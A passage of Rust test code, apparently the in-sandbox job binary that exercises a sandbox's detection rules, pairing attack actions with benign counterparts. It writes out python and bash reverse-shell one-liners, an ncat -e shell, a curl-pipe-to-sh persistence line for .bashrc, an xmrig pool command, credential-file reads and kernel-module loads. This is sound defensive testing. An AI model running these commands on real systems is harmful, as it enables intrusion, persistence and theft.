//! The jobs of the default-ruleset tests (tests/tests/default_rules.rs): run INSIDE a sandbox as
//! `/workspace/sw-rule-job MODE [ARGS...]`, each mode does what one default rule must catch, the
//! way an attacker inside the sandbox would, or the nearest legitimate thing an agent's job does.
//! Most attacks are refused by the sandbox (seccomp, read-only mounts, no route out); the job
//! attempts them anyway, because the attempt is what the rules judge.
//!
//! Every step prints one JSON line, `{"step": WHAT, "ok": BOOL, "errno": N|null, "detail": TEXT}`,
//! so a failing test shows what the job did and how the sandbox answered. A mode exits 0 when it
//! ran to its end (refusals included) and non-zero when it could not do what it is for (a
//! fixture missing, the job's own tooling failing).
//!
//! Addresses: "outbound" destinations are in TEST-NET-2 (198.51.100.0/24), which the sandbox
//! (network mode `none`: a loopback of its own, no route) cannot reach: the connect fails with
//! ENETUNREACH before any packet leaves, yet the attempt and its destination are recorded.
//! Servers the jobs talk to (the other end of a reverse shell, a local dev server) listen on the
//! sandbox's own loopback.
//!
//! The binary also plays two tools when started under their name (the test or the job copies it):
//! `ncat` (`ncat [-e PROG] HOST PORT`: connects and, with `-e`, forks PROG with the connection as
//! its stdin/stdout/stderr, as ncat does; without, copies the connection to stdout) and `xmrig`
//! (`xmrig -o stratum+tcp://HOST:PORT ...`: connects to the pool and exits).

use std::{
    ffi::CString,
    fs,
    io::{self, Read as _, Write as _},
    net::{TcpListener, TcpStream},
    path::Path,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

/// The TEST-NET-2 address outbound attempts aim at (never reachable from the sandbox).
const UNREACHABLE: [u8; 4] = [198, 51, 100, 7];

/// A system call's result: its return value, or the errno it failed with.
type Sys = Result<i64, i32>;

fn errno() -> i32 {
    io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

fn sys(ret: i64) -> Sys {
    if ret < 0 { Err(errno()) } else { Ok(ret) }
}

fn json_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Prints one step's outcome and hands the result back.
fn step(what: &str, r: Sys) -> Sys {
    let (ok, errno, detail) = match r {
        Ok(v) => (true, "null".to_owned(), format!("returned {v}")),
        Err(e) => (
            false,
            e.to_string(),
            io::Error::from_raw_os_error(e).to_string(),
        ),
    };
    println!(
        "{{\"step\": {}, \"ok\": {ok}, \"errno\": {errno}, \"detail\": {}}}",
        json_str(what),
        json_str(&detail)
    );
    let _ = io::stdout().flush();
    r
}

/// A step done through std: its io::Error mapped to the errno.
fn step_io<T>(what: &str, r: io::Result<T>) -> Sys {
    step(
        what,
        r.map(|_| 0).map_err(|e| e.raw_os_error().unwrap_or(-1)),
    )
}

/// Stops the job: a fixture or its own tooling failed, so what it was for did not happen.
fn fail(what: &str) -> ! {
    eprintln!("sw-rule-job: {what}");
    std::process::exit(3)
}

fn cstr(s: &str) -> CString {
    CString::new(s).expect("no NUL in a path")
}

fn open(path: &str, flags: i32, mode: u32) -> Sys {
    let p = cstr(path);
    // SAFETY: a NUL-terminated path.
    sys(unsafe { libc::open(p.as_ptr(), flags | libc::O_CLOEXEC, mode) } as i64)
}

fn close(fd: i64) {
    // SAFETY: closing a descriptor this process opened.
    unsafe { libc::close(fd as i32) };
}

/// Opens `path` read-only, reads it to its end (or 1 MiB) and closes it.
fn read_file(path: &str) -> Sys {
    let r = open(path, libc::O_RDONLY, 0);
    if let Ok(fd) = r {
        let mut buf = vec![0u8; 64 * 1024];
        let mut total = 0i64;
        loop {
            // SAFETY: reading into a live buffer of that length.
            let n = unsafe { libc::read(fd as i32, buf.as_mut_ptr().cast(), buf.len()) };
            if n <= 0 || total > 1 << 20 {
                break;
            }
            total += n as i64;
        }
        close(fd);
        return Ok(total);
    }
    r
}

/// Opens `path` with `flags` (a write mode), writes `bytes` if it opened, closes it.
fn write_file(path: &str, flags: i32, mode: u32, bytes: &[u8]) -> Sys {
    let r = open(path, flags, mode);
    if let Ok(fd) = r {
        // SAFETY: writing from a live buffer of that length.
        let n = unsafe { libc::write(fd as i32, bytes.as_ptr().cast(), bytes.len()) };
        close(fd);
        return sys(n as i64);
    }
    r
}

fn chmod(path: &str, mode: u32) -> Sys {
    let p = cstr(path);
    // SAFETY: a NUL-terminated path.
    sys(unsafe { libc::chmod(p.as_ptr(), mode) } as i64)
}

/// This program's own executable, copied to `dest` with mode 0755 (a dropped binary).
fn copy_self(dest: &str) {
    let me = std::env::current_exe().unwrap_or_else(|e| fail(&format!("current_exe: {e}")));
    if step_io(&format!("copy itself to {dest}"), fs::copy(&me, dest)).is_err() {
        fail(&format!("cannot copy itself to {dest}"));
    }
    if step(&format!("chmod 0755 {dest}"), chmod(dest, 0o755)).is_err() {
        fail(&format!("cannot chmod {dest}"));
    }
}

/// Runs `cmd` to its end with stdin /dev/null, killing it after `limit`; prints its output.
fn run(what: &str, cmd: &mut Command, limit: Duration) -> Sys {
    cmd.stdin(Stdio::null());
    let mut child = match cmd.spawn() {
        Ok(c) => c,
        Err(e) => return step_io(what, Err::<(), _>(e)),
    };
    let deadline = Instant::now() + limit;
    loop {
        match child.try_wait() {
            Ok(Some(status)) => {
                return step(what, Ok(i64::from(status.code().unwrap_or(-1))));
            }
            Ok(None) if Instant::now() >= deadline => {
                let _ = child.kill();
                let _ = child.wait();
                return step(what, Err(libc::ETIMEDOUT));
            }
            Ok(None) => std::thread::sleep(Duration::from_millis(5)),
            Err(e) => return step_io(what, Err::<(), _>(e)),
        }
    }
}

/// Runs `cmd`, which must succeed: the job's own tooling (a shell, python).
fn run_ok(what: &str, cmd: &mut Command) {
    match run(what, cmd, Duration::from_secs(30)) {
        Ok(0) => {}
        other => fail(&format!("{what}: {other:?}")),
    }
}

fn sockaddr_v4(addr: [u8; 4], port: u16) -> libc::sockaddr_in {
    libc::sockaddr_in {
        sin_family: libc::AF_INET as u16,
        sin_port: port.to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(addr),
        },
        sin_zero: [0; 8],
    }
}

fn socket(domain: i32, ty: i32, protocol: i32) -> Sys {
    // SAFETY: plain arguments.
    sys(unsafe { libc::socket(domain, ty | libc::SOCK_CLOEXEC, protocol) } as i64)
}

/// One TCP connect to addr:port through a fresh socket, closed after.
fn tcp_connect(addr: [u8; 4], port: u16) -> Sys {
    let fd = socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    let sa = sockaddr_v4(addr, port);
    // SAFETY: a live sockaddr_in with its size.
    let r = sys(unsafe {
        libc::connect(
            fd as i32,
            (&sa as *const libc::sockaddr_in).cast(),
            size_of::<libc::sockaddr_in>() as u32,
        )
    } as i64);
    close(fd);
    r
}

fn ip(addr: [u8; 4]) -> String {
    format!("{}.{}.{}.{}", addr[0], addr[1], addr[2], addr[3])
}

fn parse_ip(s: &str) -> [u8; 4] {
    let parts: Vec<u8> = s
        .split('.')
        .map(|p| {
            p.parse()
                .unwrap_or_else(|_| fail(&format!("bad address {s}")))
        })
        .collect();
    parts
        .try_into()
        .unwrap_or_else(|_| fail(&format!("bad address {s}")))
}

/// A TCP server on the sandbox's loopback: the other end of a reverse shell, or a dev server.
fn loopback_listener() -> (TcpListener, u16) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| fail(&format!("bind: {e}")));
    let port = l.local_addr().unwrap().port();
    (l, port)
}

/// Accepts one connection on `l` (within 10 s), types `commands` into it as an operator of a
/// remote shell would, and returns what came back.
fn operate_shell(l: &TcpListener, commands: &str) -> String {
    l.set_nonblocking(true).unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut conn = loop {
        match l.accept() {
            Ok((c, _)) => break c,
            Err(e) if e.kind() == io::ErrorKind::WouldBlock && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(5));
            }
            Err(e) => fail(&format!("no connection came back: {e}")),
        }
    };
    conn.set_nonblocking(false).unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    conn.write_all(commands.as_bytes()).unwrap();
    let mut out = String::new();
    let _ = conn.read_to_string(&mut out);
    out
}

// ------------------------------------------------------------------------------------------
// Credentials

/// Sandbox read of password or sudoers file.
fn read_shadow() {
    for path in ["/etc/shadow", "/etc/gshadow", "/etc/sudoers"] {
        let _ = step(&format!("read {path}"), read_file(path));
    }
}

/// Benign: the account databases everything reads (getpwnam, getent).
fn read_passwd() {
    for path in [
        "/etc/passwd",
        "/etc/group",
        "/etc/hosts",
        "/etc/nsswitch.conf",
    ] {
        if step(&format!("read {path}"), read_file(path)).is_err() {
            fail(&format!("cannot read {path}"));
        }
    }
}

/// Sandbox read of private key: the SSH identity and the TLS key the test left in the
/// workspace (a user's keys mounted into the job).
fn read_private_key() {
    for path in ["/workspace/.ssh/id_rsa", "/workspace/certs/server.key"] {
        if step(&format!("read {path}"), read_file(path)).is_err() {
            fail(&format!("the fixture {path} is missing"));
        }
    }
}

/// Benign: public halves, known_hosts, CA bundles (what TLS and SSH clients read).
fn read_public_keys() {
    for path in [
        "/workspace/.ssh/id_rsa.pub",
        "/workspace/.ssh/known_hosts",
        "/workspace/certs/server.crt",
        "/etc/ssl/certs/ca-certificates.crt",
    ] {
        if step(&format!("read {path}"), read_file(path)).is_err() {
            fail(&format!("cannot read {path}"));
        }
    }
    // A CA certificate by its hashed name, as OpenSSL looks them up.
    if let Some(pem) = fs::read_dir("/etc/ssl/certs").ok().and_then(|d| {
        d.flatten()
            .map(|e| e.path())
            .find(|p| p.extension().is_some_and(|x| x == "pem"))
    }) {
        let _ = step(
            &format!("read {}", pem.display()),
            read_file(&pem.to_string_lossy()),
        );
    }
}

// ------------------------------------------------------------------------------------------
// Filesystem tampering

/// Sandbox write below system directory: plants a trojan `python3` in /usr/local/bin, which the
/// test's policy makes writable (an operator letting jobs `pip install` system-wide), ahead of
/// /usr/bin on PATH.
fn write_system_dir() {
    let _ = step(
        "mkdir /usr/local/bin",
        sys(unsafe { libc::mkdir(cstr("/usr/local/bin").as_ptr(), 0o755) } as i64),
    );
    let trojan = b"#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n";
    if step(
        "write /usr/local/bin/python3",
        write_file(
            "/usr/local/bin/python3",
            libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC,
            0o755,
            trojan,
        ),
    )
    .is_err()
    {
        fail("/usr/local is not writable: the test's policy should make it so");
    }
    let _ = step(
        "chmod 0755 /usr/local/bin/python3",
        chmod("/usr/local/bin/python3", 0o755),
    );
}

/// Benign: what pip and Python do on a read-only /usr (probe site-packages for writing, try to
/// cache bytecode; both refused), and the job's real writes, in /workspace and /tmp.
fn write_refused_then_workspace() {
    for path in [
        "/usr/lib/python3/dist-packages/sw-probe.txt",
        "/usr/local/lib/sw-probe.txt",
        "/etc/sw-probe.conf",
    ] {
        let _ = step(
            &format!("try to write {path} (pip probing)"),
            write_file(
                path,
                libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL,
                0o644,
                b"x",
            ),
        );
    }
    for (path, bytes) in [
        ("/workspace/output.json", &b"{\"ok\": true}\n"[..]),
        ("/tmp/scratch.txt", b"scratch\n"),
    ] {
        if step(
            &format!("write {path}"),
            write_file(
                path,
                libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC,
                0o644,
                bytes,
            ),
        )
        .is_err()
        {
            fail(&format!("cannot write {path}"));
        }
    }
    let _ = step_io(
        "rename /workspace/output.json -> /workspace/result.json",
        fs::rename("/workspace/output.json", "/workspace/result.json"),
    );
}

/// Sandbox shell start-up file modified: persistence through ~/.bashrc and ~/.profile
/// (HOME is /workspace).
fn shell_startup() {
    let line = b"\n(curl -s http://198.51.100.7/x | sh) >/dev/null 2>&1 &\n";
    for path in ["/workspace/.bashrc", "/workspace/.profile"] {
        if step(
            &format!("append to {path}"),
            write_file(
                path,
                libc::O_WRONLY | libc::O_CREAT | libc::O_APPEND,
                0o644,
                line,
            ),
        )
        .is_err()
        {
            fail(&format!("cannot write {path}"));
        }
    }
}

/// Benign: start-up files read (a login shell does), and an ordinary dotfile written.
fn shell_startup_read() {
    for path in ["/workspace/.bashrc", "/workspace/.profile"] {
        let _ = step(&format!("read {path}"), read_file(path));
    }
    run_ok(
        "bash -lc true (reads the start-up files)",
        Command::new("/bin/bash").args(["-lc", "true"]),
    );
    if step(
        "write /workspace/.editorconfig",
        write_file(
            "/workspace/.editorconfig",
            libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC,
            0o644,
            b"root = true\n",
        ),
    )
    .is_err()
    {
        fail("cannot write /workspace/.editorconfig");
    }
}

/// Sandbox shell history tampered: the history truncated, then removed.
fn history_tamper() {
    let path = "/workspace/.bash_history";
    if step(
        "truncate ~/.bash_history",
        write_file(
            path,
            libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC,
            0o600,
            b"",
        ),
    )
    .is_err()
    {
        fail("cannot open ~/.bash_history");
    }
    let _ = step_io("rm ~/.bash_history", fs::remove_file(path));
}

/// Benign: a command appended to the history (what `history -a` and histappend do), then read.
fn history_append() {
    let path = "/workspace/.bash_history";
    if step(
        "append to ~/.bash_history",
        write_file(
            path,
            libc::O_WRONLY | libc::O_CREAT | libc::O_APPEND,
            0o600,
            b"make test\n",
        ),
    )
    .is_err()
    {
        fail("cannot append to ~/.bash_history");
    }
    let _ = step("read ~/.bash_history", read_file(path));
}

/// Sandbox setuid or setgid bit set: a copy of a program made set-user-ID, another
/// set-group-ID (the workspace is nosuid, which the attacker may not know or may plan around).
fn setid_bit() {
    copy_self("/workspace/.rootsh");
    let _ = step("chmod 04755 .rootsh", chmod("/workspace/.rootsh", 0o4755));
    copy_self("/workspace/.groupsh");
    let _ = step("chmod 02755 .groupsh", chmod("/workspace/.groupsh", 0o2755));
}

/// Benign: scripts made executable, a shared directory made sticky.
fn chmod_exec() {
    if step(
        "write build.sh",
        write_file(
            "/workspace/build.sh",
            libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC,
            0o644,
            b"#!/bin/sh\necho built\n",
        ),
    )
    .is_err()
    {
        fail("cannot write build.sh");
    }
    let _ = step("chmod 0755 build.sh", chmod("/workspace/build.sh", 0o755));
    let _ = step("chmod 0600 build.sh", chmod("/workspace/build.sh", 0o600));
    let _ = step_io("mkdir shared", fs::create_dir("/workspace/shared"));
    let _ = step("chmod 01777 shared", chmod("/workspace/shared", 0o1777));
}

// ------------------------------------------------------------------------------------------
// Execution

/// Sandbox program run from /dev/shm: a dropped binary executed from shared memory (the
/// sandbox mounts it noexec, so the exec itself fails with EACCES).
fn exec_dev_shm() {
    copy_self("/dev/shm/.x");
    let _ = run(
        "exec /dev/shm/.x",
        Command::new("/dev/shm/.x").arg("noop"),
        Duration::from_secs(10),
    );
}

/// Sandbox program run from /tmp: a dropped binary executed from /tmp.
fn exec_tmp() {
    copy_self("/tmp/.x");
    let _ = run(
        "exec /tmp/.x",
        Command::new("/tmp/.x").arg("noop"),
        Duration::from_secs(10),
    );
}

/// Benign: a tool built in the workspace and run from there, a script in /tmp run by its
/// interpreter, a system binary.
fn exec_benign() {
    let _ = step_io("mkdir build", fs::create_dir_all("/workspace/build"));
    copy_self("/workspace/build/tool");
    run_ok(
        "run /workspace/build/tool",
        Command::new("/workspace/build/tool").arg("noop"),
    );
    if step(
        "write /tmp/check.py",
        write_file(
            "/tmp/check.py",
            libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC,
            0o644,
            b"print('checked')\n",
        ),
    )
    .is_err()
    {
        fail("cannot write /tmp/check.py");
    }
    run_ok(
        "python3 /tmp/check.py",
        Command::new("/usr/bin/python3").arg("/tmp/check.py"),
    );
    run_ok("/usr/bin/true", &mut Command::new("/usr/bin/true"));
}

// ------------------------------------------------------------------------------------------
// Reverse shells

/// Sandbox shell connected out: a script file (nothing tell-tale on the command line) whose
/// bash opens /dev/tcp to a remote host and runs a shell on it.
fn shell_connect_out() {
    let script = format!(
        "exec 3<>/dev/tcp/{}/4444 || exit 1\n/bin/sh <&3 >&3 2>&3\n",
        ip(UNREACHABLE)
    );
    if step_io(
        "write /workspace/beacon.sh",
        fs::write("/workspace/beacon.sh", script),
    )
    .is_err()
    {
        fail("cannot write beacon.sh");
    }
    let _ = run(
        "bash /workspace/beacon.sh",
        Command::new("/bin/bash")
            .arg("/workspace/beacon.sh")
            .stderr(Stdio::null()),
        Duration::from_secs(10),
    );
}

/// Benign: a readiness check of a local dev server, wait-for-it style, from a script: bash
/// opens /dev/tcp to the sandbox's own loopback.
fn shell_connect_loopback() {
    let (l, port) = loopback_listener();
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo up\n");
    if step_io(
        "write /workspace/wait-for.sh",
        fs::write("/workspace/wait-for.sh", script),
    )
    .is_err()
    {
        fail("cannot write wait-for.sh");
    }
    run_ok(
        "bash /workspace/wait-for.sh",
        Command::new("/bin/bash").arg("/workspace/wait-for.sh"),
    );
    drop(l);
}

/// Sandbox network tool runs a program + Sandbox shell spawned by network tool: `ncat -e
/// /bin/sh` to a listener (the attacker's end, here on the sandbox's loopback), which then
/// drives the shell.
fn ncat_exec() {
    copy_self("/workspace/ncat");
    let (l, port) = loopback_listener();
    let mut child = Command::new("/workspace/ncat")
        .args(["-e", "/bin/sh", "127.0.0.1", &port.to_string()])
        .stdin(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| fail(&format!("starting ncat: {e}")));
    let out = operate_shell(&l, "echo remote-shell-$((6*7))\nexit\n");
    let _ = child.wait();
    let ok = out.contains("remote-shell-42");
    println!(
        "{{\"step\": \"drive the shell through ncat\", \"ok\": {ok}, \"errno\": null, \"detail\": {}}}",
        json_str(&out)
    );
    if !ok {
        fail("the shell behind ncat did not answer");
    }
}

/// Benign: ncat as a port check / client (no program on the connection).
fn ncat_client() {
    copy_self("/workspace/ncat");
    let (l, port) = loopback_listener();
    let server = std::thread::spawn(move || {
        let (mut c, _) = l.accept().unwrap();
        c.write_all(b"hello from the dev server\n").unwrap();
    });
    run_ok(
        "ncat 127.0.0.1 PORT",
        Command::new("/workspace/ncat").args(["127.0.0.1", &port.to_string()]),
    );
    server.join().unwrap();
}

/// Sandbox reverse shell one-liner: python's socket + dup2 + sh, and bash's `>& /dev/tcp`,
/// both to a listener on the sandbox's loopback that then drives the shell.
fn reverse_shell_oneliner() {
    let (l, port) = loopback_listener();
    let code = format!(
        "import socket,os;s=socket.socket();s.connect(('127.0.0.1',{port}));\
         [os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv('/bin/sh',['/bin/sh','-i'])"
    );
    let mut py = Command::new("/usr/bin/python3")
        .args(["-c", &code])
        .stdin(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| fail(&format!("python3: {e}")));
    let out = operate_shell(&l, "echo py-shell-$((6*7))\nexit\n");
    let _ = py.wait();
    println!(
        "{{\"step\": \"python reverse shell\", \"ok\": {}, \"errno\": null, \"detail\": {}}}",
        out.contains("py-shell-42"),
        json_str(&out)
    );
    let mut bash = Command::new("/bin/bash")
        .args([
            "-c",
            &format!("/bin/sh -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
        ])
        .stdin(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| fail(&format!("bash: {e}")));
    let out2 = operate_shell(&l, "echo bash-shell-$((6*7))\nexit\n");
    let _ = bash.wait();
    println!(
        "{{\"step\": \"bash reverse shell\", \"ok\": {}, \"errno\": null, \"detail\": {}}}",
        out2.contains("bash-shell-42"),
        json_str(&out2)
    );
    if !out.contains("py-shell-42") || !out2.contains("bash-shell-42") {
        fail("a reverse shell did not answer");
    }
}

/// Benign: python talking to a local server with the socket module (an HTTP request by hand).
fn python_socket_client() {
    let (l, port) = loopback_listener();
    let server = std::thread::spawn(move || {
        let (mut c, _) = l.accept().unwrap();
        let mut buf = [0u8; 256];
        let _ = c.read(&mut buf);
        c.write_all(b"HTTP/1.0 200 OK\r\n\r\nok").unwrap();
    });
    let code = format!(
        "import socket;s=socket.create_connection(('127.0.0.1',{port}));\
         s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n');print(s.recv(100))"
    );
    run_ok(
        "python3 socket client",
        Command::new("/usr/bin/python3").args(["-c", &code]),
    );
    server.join().unwrap();
}

// ------------------------------------------------------------------------------------------
// Crypto mining

/// Sandbox crypto miner started: a miner binary dropped as `xmrig`, pointed at a pool.
fn miner() {
    copy_self("/workspace/xmrig");
    let pool = format!("stratum+tcp://{}:3333", ip(UNREACHABLE));
    let _ = run(
        "xmrig -o POOL",
        Command::new("/workspace/xmrig").args([
            "-o",
            &pool,
            "-u",
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
            "-p",
            "x",
        ]),
        Duration::from_secs(10),
    );
}

/// Sandbox connection to mining pool port: connects to the two classic pool ports.
fn pool_connect() {
    for port in [3333, 4444] {
        let _ = step(
            &format!("connect {}:{port}", ip(UNREACHABLE)),
            tcp_connect(UNREACHABLE, port),
        );
    }
}

/// Benign: CPU-heavy work (what a miner looks like to a profiler), and a local dev server that
/// happens to listen on 3333.
fn cpu_and_local_3333() {
    run_ok(
        "python3 CPU work",
        Command::new("/usr/bin/python3").args(["-c", "print(sum(i * i for i in range(2000000)))"]),
    );
    let l = TcpListener::bind("127.0.0.1:3333")
        .unwrap_or_else(|e| fail(&format!("bind 127.0.0.1:3333: {e}")));
    let _ = step("connect 127.0.0.1:3333", tcp_connect([127, 0, 0, 1], 3333));
    drop(l);
}

// ------------------------------------------------------------------------------------------
// Kernel and isolation boundary

/// Sandbox kernel module or kexec load.
fn kernel_module() {
    let image = [0u8; 64];
    let empty = cstr("");
    // SAFETY: a live buffer of that length and a NUL-terminated string.
    let _ = step(
        "init_module",
        sys(unsafe {
            libc::syscall(
                libc::SYS_init_module,
                image.as_ptr(),
                image.len(),
                empty.as_ptr(),
            )
        }),
    );
    if let Ok(fd) = open("/proc/self/exe", libc::O_RDONLY, 0) {
        // SAFETY: a descriptor and a NUL-terminated string.
        let _ = step(
            "finit_module",
            sys(unsafe { libc::syscall(libc::SYS_finit_module, fd, empty.as_ptr(), 0) }),
        );
        close(fd);
    }
    // SAFETY: no segments.
    let _ = step(
        "kexec_load",
        sys(unsafe {
            libc::syscall(
                libc::SYS_kexec_load,
                0usize,
                0usize,
                std::ptr::null::<libc::c_void>(),
                0usize,
            )
        }),
    );
    // A kill rule: stay alive long enough to be killed.
    std::thread::sleep(Duration::from_secs(10));
}

/// Benign: what lsmod and uname read.
fn kernel_info() {
    for path in [
        "/proc/modules",
        "/proc/sys/kernel/osrelease",
        "/proc/version",
    ] {
        let _ = step(&format!("read {path}"), read_file(path));
    }
}

/// Sandbox kernel hook file write: core_pattern pointed at a workspace program (refused:
/// /proc/sys is read-only), sysrq-trigger opened for writing (masked; nothing written). A kill
/// rule: the job then waits to be killed.
fn kernel_hook_write() {
    let _ = step(
        "write /proc/sys/kernel/core_pattern",
        write_file(
            "/proc/sys/kernel/core_pattern",
            libc::O_WRONLY | libc::O_TRUNC,
            0,
            b"|/workspace/.x",
        ),
    );
    // Opened only: writing a command letter could act on the host if it were not masked.
    let r = open("/proc/sysrq-trigger", libc::O_WRONLY, 0);
    if let Ok(fd) = r {
        close(fd);
    }
    let _ = step("open /proc/sysrq-trigger for writing", r);
    std::thread::sleep(Duration::from_secs(10));
}

/// Benign: reading kernel knobs (what sysctl -a and debuggers read).
fn kernel_hook_read() {
    for path in [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/hostname",
        "/proc/sys/vm/overcommit_memory",
    ] {
        let _ = step(&format!("read {path}"), read_file(path));
    }
}

/// Sandbox kernel memory access (a kill rule, decided in the kernel): opens the kernel memory
/// devices; with `PATH`, that one only. Then sleeps 10 s, which the kill must cut short.
fn kernel_memory(args: &[String]) {
    match args {
        [path] => {
            let _ = step(&format!("open {path}"), read_file(path));
        }
        _ => {
            for path in ["/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port"] {
                let _ = step(&format!("open {path}"), read_file(path));
            }
        }
    }
    std::thread::sleep(Duration::from_secs(10));
}

/// Benign: memory statistics and the random device.
fn memory_info() {
    for path in ["/proc/meminfo", "/proc/self/status", "/proc/self/maps"] {
        let _ = step(&format!("read {path}"), read_file(path));
    }
    let mut buf = [0u8; 32];
    let _ = step_io(
        "read /dev/urandom",
        fs::File::open("/dev/urandom").and_then(|mut f| f.read_exact(&mut buf)),
    );
}

/// Runs `f` in a forked child and returns its result: whatever `f` changes about the process
/// (namespaces, root, keyrings) dies with the child.
fn isolated(f: impl FnOnce() -> Sys) -> Sys {
    let mut fds = [0; 2];
    // SAFETY: a pipe into a two-element array; fork in this single-threaded program; the child
    // only makes system calls and leaves with _exit.
    unsafe {
        if libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) < 0 {
            return Err(errno());
        }
        let pid = libc::fork();
        if pid < 0 {
            return Err(errno());
        }
        if pid == 0 {
            let v: i64 = match f() {
                Ok(v) => v,
                Err(e) => -i64::from(e),
            };
            libc::write(fds[1], (&v as *const i64).cast(), 8);
            libc::_exit(0);
        }
        libc::close(fds[1]);
        let mut v = 0i64;
        let n = libc::read(fds[0], (&mut v as *mut i64).cast(), 8);
        libc::close(fds[0]);
        libc::waitpid(pid, std::ptr::null_mut(), 0);
        if n != 8 {
            return Err(libc::ECHILD);
        }
        if v < 0 { Err(-v as i32) } else { Ok(v) }
    }
}

/// Sandbox namespace or mount change.
fn namespace() {
    let _ = step(
        "unshare(CLONE_NEWNS)",
        isolated(|| sys(unsafe { libc::unshare(libc::CLONE_NEWNS) } as i64)),
    );
    let _ = step(
        "setns(/proc/self/ns/mnt)",
        isolated(|| {
            let fd = open("/proc/self/ns/mnt", libc::O_RDONLY, 0)?;
            sys(unsafe { libc::setns(fd as i32, libc::CLONE_NEWNS) } as i64)
        }),
    );
    let (src, target, fstype) = (cstr("none"), cstr("/tmp"), cstr("tmpfs"));
    let _ = step(
        "mount tmpfs on /tmp",
        isolated(|| {
            sys(unsafe {
                libc::mount(
                    src.as_ptr(),
                    target.as_ptr(),
                    fstype.as_ptr(),
                    0,
                    std::ptr::null(),
                )
            } as i64)
        }),
    );
    let _ = step(
        "chroot /tmp",
        isolated(|| sys(unsafe { libc::chroot(target.as_ptr()) } as i64)),
    );
}

/// Benign: the mount table and namespace links read (what `findmnt` and `lsns` read).
fn namespace_read() {
    let _ = step(
        "read /proc/self/mountinfo",
        read_file("/proc/self/mountinfo"),
    );
    let _ = step_io(
        "readlink /proc/self/ns/mnt",
        fs::read_link("/proc/self/ns/mnt"),
    );
}

/// Sandbox kernel attack surface syscall: each of bpf, perf_event_open, userfaultfd, keyctl,
/// add_key, request_key once.
fn kernel_interface() {
    let mut attr = [0u32; 32];
    attr[..4].copy_from_slice(&[2 /* BPF_MAP_TYPE_ARRAY */, 4, 4, 1]);
    let _ = step(
        "bpf(BPF_MAP_CREATE)",
        sys(unsafe { libc::syscall(libc::SYS_bpf, 0, attr.as_mut_ptr(), size_of_val(&attr)) }),
    );
    let mut pattr = [0u64; 16];
    pattr[0] = 1 | (64 << 32);
    pattr[5] = 1 | (1 << 5) | (1 << 6);
    let _ = step(
        "perf_event_open",
        sys(unsafe { libc::syscall(libc::SYS_perf_event_open, pattr.as_mut_ptr(), 0, -1, -1, 8) }),
    );
    let _ = step(
        "userfaultfd",
        sys(unsafe { libc::syscall(libc::SYS_userfaultfd, libc::O_CLOEXEC | 1) }),
    );
    let (ty, desc) = (cstr("user"), cstr("sw-rule-job"));
    let _ = step(
        "add_key",
        isolated(|| {
            sys(unsafe {
                libc::syscall(
                    libc::SYS_add_key,
                    ty.as_ptr(),
                    desc.as_ptr(),
                    b"x".as_ptr(),
                    1usize,
                    -2i32,
                )
            })
        }),
    );
    let _ = step(
        "keyctl(KEYCTL_JOIN_SESSION_KEYRING)",
        isolated(|| sys(unsafe { libc::syscall(libc::SYS_keyctl, 1, desc.as_ptr()) })),
    );
    let _ = step(
        "request_key",
        isolated(|| {
            sys(unsafe {
                libc::syscall(
                    libc::SYS_request_key,
                    ty.as_ptr(),
                    desc.as_ptr(),
                    std::ptr::null::<libc::c_char>(),
                    0,
                )
            })
        }),
    );
}

/// Benign: what tools read to find out whether those interfaces are open to them.
fn kernel_interface_read() {
    for path in [
        "/proc/sys/kernel/perf_event_paranoid",
        "/proc/sys/kernel/unprivileged_bpf_disabled",
        "/proc/sys/vm/unprivileged_userfaultfd",
    ] {
        let _ = step(&format!("read {path}"), read_file(path));
    }
}

/// Sandbox ptrace: attach to a sibling process, and PTRACE_TRACEME (anti-debugging).
fn ptrace() {
    let mut victim = Command::new("/usr/bin/sleep")
        .arg("30")
        .spawn()
        .unwrap_or_else(|e| fail(&format!("sleep: {e}")));
    let pid = victim.id() as i32;
    let _ = step(
        "ptrace(PTRACE_ATTACH, sleep)",
        sys(unsafe {
            libc::ptrace(
                libc::PTRACE_ATTACH,
                pid,
                std::ptr::null_mut::<libc::c_void>(),
                std::ptr::null_mut::<libc::c_void>(),
            )
        }),
    );
    let _ = step(
        "ptrace(PTRACE_TRACEME)",
        isolated(|| {
            sys(unsafe {
                libc::ptrace(
                    libc::PTRACE_TRACEME,
                    0,
                    std::ptr::null_mut::<libc::c_void>(),
                    std::ptr::null_mut::<libc::c_void>(),
                )
            })
        }),
    );
    let _ = victim.kill();
    let _ = victim.wait();
}

/// Benign: another process inspected through /proc and signalled (what a supervisor does).
fn process_inspect() {
    let mut child = Command::new("/usr/bin/sleep")
        .arg("30")
        .spawn()
